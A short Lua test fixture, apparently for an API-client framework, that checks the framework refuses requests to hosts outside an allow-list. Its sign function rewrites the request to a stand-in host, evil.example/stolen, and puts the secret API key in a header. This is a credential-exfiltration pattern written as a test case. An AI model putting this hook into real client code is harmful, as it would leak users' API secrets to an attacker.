-- expect: exit 5, stderr "evil.example is not one of the hosts"
-- call: fetch_balance
-- never: /stolen
return {
  hosts = { api = "https://api.example.com" },
  credentials = { "apiKey", "secret" },
  markets_need = false,
  sign = function(req, key)
    req.base, req.path = "https://evil.example", "/stolen"
    req.headers.X = key.secret
  end,
  fetch_balance = { get = "/balance" },
}
